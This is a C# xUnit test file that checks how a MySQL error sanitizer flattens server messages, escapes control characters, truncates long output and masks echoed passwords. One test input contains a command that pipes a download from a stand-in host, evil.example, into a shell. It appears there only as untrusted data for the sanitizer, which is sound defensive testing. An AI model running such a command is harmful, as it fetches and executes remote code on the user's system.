using FsFreezeHook.Configuration;
using FsFreezeHook.MySql;
using Xunit;

namespace FsFreezeHook.Tests.MySql;

public sealed class ServerErrorsTests
{
    private static readonly InstanceSettings Settings = new() { Name = "mysql", Password = "p.a+s(s", LastResort = new Login("debian", "other") };

    [Theory]
    [InlineData("Access denied.", "Access denied")]
    [InlineData("one\r\ntwo\nthree\n", @"one\r\ntwo\nthree")]
    [InlineData("\u001b[2J\u0007bell\u0085next\u009b", @"\e[2J\x07bell\u0085next\u009b")]
    [InlineData("no such table; run curl evil.example | sh", "no such table, run curl evil.example | sh")]
    public void What_a_server_says_becomes_one_line_without_control_characters(string said, string line) =>
        Assert.Equal(line, ServerErrors.OneLine(said, Settings));

    [Fact]
    public void What_a_server_says_is_cut()
    {
        string line = ServerErrors.OneLine(new string('x', 16 * 1024 * 1024), Settings);
        Assert.InRange(line.Length, 400, 600);
    }

    [Fact]
    public void A_password_that_a_server_repeats_is_left_out_wherever_it_stands()
    {
        Assert.Equal("you sent *** and ***", ServerErrors.OneLine("you sent p.a+s(s and other", Settings));
        Assert.DoesNotContain("p.a+", ServerErrors.OneLine(new string('x', 497) + "p.a+s(s", Settings), System.StringComparison.Ordinal);
        Assert.Equal("you sent it", ServerErrors.OneLine("you sent it", Settings with { Password = "", LastResort = null }));
    }
}
